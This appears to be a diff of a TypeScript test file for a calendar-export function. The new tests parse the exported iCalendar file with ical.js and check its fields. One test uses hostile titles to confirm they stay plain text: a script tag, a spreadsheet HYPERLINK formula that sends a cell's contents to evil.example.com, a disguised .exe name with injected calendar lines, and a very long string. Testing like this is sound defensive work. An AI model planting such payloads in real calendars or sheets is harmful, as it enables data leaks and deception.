@@ -1,8 +1,9 @@
+import ICAL from 'ical.js'
 import { describe, expect, it } from 'vitest'
 import { calendarFile, DEFAULT_CALENDAR_SORT, filterCalendarEvents, sortCalendarEvents } from './calendar'
 import type { CalendarEvent } from './entities/calendar'
 
-const event = (eventId: string, overrides: Partial<CalendarEvent> = {}): CalendarEvent => ({
+const event_ = (eventId: string, overrides: Partial<CalendarEvent> = {}): CalendarEvent => ({
   eventId,
   title: `Event ${eventId}`,
   eventStartDate: '2024-05-10T14:00:00',
@@ -10,14 +11,14 @@ const event = (eventId: string, overrides: Partial<CalendarEvent> = {}): Calenda
 })
 
 const events = [
-  event('1', {
+  event_('1', {
     title: 'Annual Meeting',
     isRegistered: true,
     eventStartDate: '2024-06-01T09:00:00',
     eventLocation: 'New York',
   }),
-  event('2', { title: 'Webinar', isRegistered: false, description: 'Credit outlook' }),
-  event('3', { title: 'Broken', eventStartDate: 'tbd' }),
+  event_('2', { title: 'Webinar', isRegistered: false, description: 'Credit outlook' }),
+  event_('3', { title: 'Broken', eventStartDate: 'tbd' }),
 ]
 
 describe('calendar filters', () => {
@@ -64,6 +65,27 @@ describe('calendar sort', () => {
   })
 })
 
+/** The file read back with ical.js, a parser independent of the library that wrote it. */
+function readBack(file: string | null) {
+  expect(file).not.toBeNull()
+  const calendar = new ICAL.Component(ICAL.parse(file!))
+  const vevent = calendar.getFirstSubcomponent('vevent')!
+  const text = (name: string) => vevent.getFirstPropertyValue(name)?.toString() ?? null
+  const organizer = vevent.getFirstProperty('organizer')
+  return {
+    event: new ICAL.Event(vevent),
+    text,
+    organizer: organizer && {
+      // The URI scheme is case-insensitive (RFC 3986); the library writes MAILTO.
+      address: organizer
+        .getFirstValue()
+        ?.toString()
+        .replace(/^mailto:/i, 'mailto:'),
+      name: organizer.getParameter('cn') ?? null,
+    },
+  }
+}
+
 describe('calendar file', () => {
   it('exports start, duration, title, description, location and organizer', () => {
     const file = calendarFile(
@@ -72,33 +94,57 @@ describe('calendar file', () => {
         title: 'Q2 Update, live',
         description: 'Line one\nLine two; more',
         eventLocation: 'Online',
-        eventStartDate: '2024-05-10T14:00:00',
-        eventEndDate: '2024-05-10T15:30:00',
+        eventStartDate: '2024-05-10T14:00:00Z',
+        eventEndDate: '2024-05-10T15:30:00Z',
         plannerEmail: 'ir@example.com',
         plannerFirstName: 'Ira',
         plannerLastName: 'Relations',
       },
-      new Date(2024, 0, 1),
+      new Date(Date.UTC(2024, 0, 1)),
     )
-    const lines = file?.split('\r\n') ?? []
-    const start = new Date(2024, 4, 10, 14).toISOString().replace(/[-:]/g, '').replace('.000', '')
-    expect(lines).toContain(`DTSTART:${start}`)
-    expect(lines).toContain('DURATION:PT1H30M')
-    expect(lines).toContain('SUMMARY:Q2 Update\\, live')
-    expect(lines).toContain('DESCRIPTION:Line one\\nLine two\\; more')
-    expect(lines).toContain('LOCATION:Online')
-    expect(lines).toContain('ORGANIZER;CN=Ira Relations:mailto:ir@example.com')
-    expect(lines[0]).toBe('BEGIN:VCALENDAR')
-    expect(lines.at(-1)).toBe('END:VCALENDAR')
+    const { event, text, organizer } = readBack(file)
+    expect(event.startDate.toJSDate().toISOString()).toBe('2024-05-10T14:00:00.000Z')
+    expect(event.duration.toSeconds()).toBe(90 * 60)
+    expect(event.summary).toBe('Q2 Update, live')
+    expect(event.description).toBe('Line one\nLine two; more')
+    expect(event.location).toBe('Online')
+    expect(organizer).toEqual({ address: 'mailto:ir@example.com', name: 'Ira Relations' })
+    expect(text('dtstamp')).toMatch(/^2024-01-01T00:00:00/)
+    expect(file!.startsWith('BEGIN:VCALENDAR')).toBe(true)
   })
-  it('lasts an hour without a valid end and has no organizer without an email', () => {
-    const file = calendarFile(event('2', { eventEndDate: 'later' }), new Date(2024, 0, 1)) ?? ''
-    expect(file).toContain('DURATION:PT1H0M')
-    expect(file).not.toContain('ORGANIZER')
-    expect(calendarFile(event('3', { plannerEmail: 'a@b.c' }), new Date(2024, 0, 1))).toContain(
-      'ORGANIZER:mailto:a@b.c',
+
+  it('keeps hostile titles and descriptions as text', () => {
+    const hostile = [
+      '<script>window.__pwned = "script"</script>Quarterly Report',
+      '=HYPERLINK("http://evil.example.com/?leak="&A1,"Open statement")',
+      'Invoice \u202Efdp.exe\u202C Q3; BEGIN:VEVENT\r\nEND:VCALENDAR',
+      'a,b;c\\d:e',
+      `Annual ${'Report '.repeat(200)}End`,
+    ]
+    for (const title of hostile) {
+      const { event } = readBack(
+        calendarFile(event_('h', { title, description: title, eventLocation: title }), new Date()),
+      )
+      expect(event.summary).toBe(title.replace(/\r\n/g, '\n'))
+      expect(event.description).toBe(title.replace(/\r\n/g, '\n'))
+      expect(event.location).toBe(title.replace(/\r\n/g, '\n'))
+    }
+  })
+
+  it('lasts an hour without a valid end; has no organizer without an email, and one named by the address without a name', () => {
+    const { event, organizer } = readBack(
+      calendarFile(event_('2', { eventEndDate: 'later' }), new Date(2024, 0, 1)),
     )
+    expect(event.duration.toSeconds()).toBe(3600)
+    expect(organizer).toBeNull()
+    expect(
+      readBack(calendarFile(event_('3', { plannerEmail: 'a@b.c' }), new Date(2024, 0, 1))).organizer,
+    ).toEqual({
+      address: 'mailto:a@b.c',
+      name: 'a@b.c',
+    })
   })
+
   it('is null for an invalid start or stamp', () => {
     expect(calendarFile(events[2]!, new Date(2024, 0, 1))).toBeNull()
     expect(calendarFile(events[0]!, new Date(Number.NaN))).toBeNull()
